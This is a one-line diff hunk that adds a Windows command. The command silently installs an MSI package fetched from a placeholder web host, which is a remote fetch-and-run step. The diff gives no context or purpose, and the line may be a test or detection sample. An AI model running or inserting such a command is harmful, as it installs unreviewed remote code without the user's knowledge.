@@ -1,0 +1,1 @@
+msiexec /q /i http://a.example/x.msi
